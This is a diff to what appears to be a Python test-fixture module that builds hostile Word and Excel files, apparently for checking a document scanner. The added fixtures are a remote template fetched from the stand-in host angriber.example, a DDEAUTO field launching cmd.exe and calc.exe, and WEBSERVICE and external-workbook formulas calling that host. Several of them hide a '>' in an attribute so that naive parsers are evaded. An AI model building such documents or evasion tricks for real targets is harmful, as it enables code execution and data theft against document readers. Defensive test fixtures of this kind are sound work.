@@ -166,6 +166,18 @@ def template_from_the_web_in_utf16():
     return zip_of(parts)
 
 
+def template_behind_a_quoted_gt():
+    """The template from the web, a `>` in its address (XML allows one in a quoted value)
+    ahead of the relationship's type and mode, as if it ended the tag there."""
+    parts = _parts(template_from_the_web())
+    parts["word/_rels/settings.xml.rels"] = _relationships().replace(
+        "</Relationships>",
+        '<Relationship Target="http://angriber.example/s.dotm?a>b" '
+        f'Type="{R}/attachedTemplate" TargetMode="External" Id="rId1"/></Relationships>',
+    )
+    return zip_of(parts)
+
+
 def picture_from_a_share():
     """A picture Word fetches from a network share: Windows hands the reader's password hash
     to it (the NTLM leak)."""
@@ -197,6 +209,25 @@ def dde_field_in_word():
         '<w:r><w:instrText xml:space="preserve"> &#68;DE</w:instrText></w:r>'
         '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
         '"/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return word_document(body)
+
+
+# An attribute Word is told to ignore (markup compatibility), free to hold a `>`.
+IGNORED = (
+    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
+    'xmlns:x="urn:x" mc:Ignorable="x" x:a=">"'
+)
+
+
+def dde_field_behind_a_quoted_gt():
+    """The DDEAUTO field, an ignored attribute holding a `>` in its field characters and
+    instruction, ahead of the field's type and text."""
+    body = (
+        ORDINARY_BODY + f'<w:p><w:r><w:fldChar {IGNORED} w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:instrText {IGNORED} xml:space="preserve">DDEAUTO c:\\\\windows\\\\'
+        'system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
     )
     return word_document(body)
 
@@ -271,6 +302,28 @@ def dde_formula_in_excel():
 def webservice_formula():
     """A formula that fetches an address each time the sheet is calculated."""
     return excel_workbook(formula='=WEBSERVICE("https://angriber.example/?"&A2)')
+
+
+def workbook_with_a_table_column():
+    """An ordinary formula summing a table's column (`Tabel1[Antal]`) and reading another
+    sheet: brackets and a sheet name, but no other workbook."""
+    return excel_workbook(formula="=SUM(Tabel1[Antal])+Noter!A1")
+
+
+def formula_from_a_workbook_on_the_web():
+    """A cell that reads a cell of a workbook on a web server, named by its address."""
+    return excel_workbook(formula="='http://angriber.example/[tal.xlsx]Ark1'!A1")
+
+
+def webservice_formula_behind_a_quoted_gt():
+    """The WEBSERVICE formula, its cell's formula element holding an ignored attribute with
+    a `>`."""
+    parts = _parts(webservice_formula())
+    sheet = parts["xl/worksheets/sheet1.xml"]
+    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
+        b"<f>WEBSERVICE", f"<f {IGNORED}>WEBSERVICE".encode(), 1
+    )
+    return zip_of(parts)
 
 
 def excel_with_printer_settings():
